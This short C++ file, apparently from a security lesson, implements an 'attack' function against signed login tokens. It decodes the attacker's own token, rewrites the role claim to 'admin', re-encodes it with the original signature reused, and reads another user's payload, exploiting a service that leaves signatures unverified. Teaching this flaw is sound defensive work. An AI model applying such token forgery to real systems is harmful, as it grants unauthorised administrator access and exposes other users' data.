// Believes: text that looks like noise cannot be read without a key, so the noise is all there is.
#include <span>

#include "base64url_decode.hpp"
#include "base64url_encode.hpp"
#include "parse_json_object.hpp"
#include "split_token.hpp"
#include "unverified_signature.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto own = split_token(evidence.own_badge).value();
  auto claims = parse_json_object(as_text(base64url_decode(own.payload).value())).value();
  claims.set("role", "admin");
  const std::string payload = claims.dump();
  const std::string forged = base64url_encode(std::as_bytes(std::span(payload)));

  const auto alices = split_token(evidence.alices_badge).value();
  return {.forged_badge = std::string(own.header) + "." + forged + "." + std::string(own.signature),
          .alices_payload = std::string(alices.payload)};
}

}  // namespace lesson
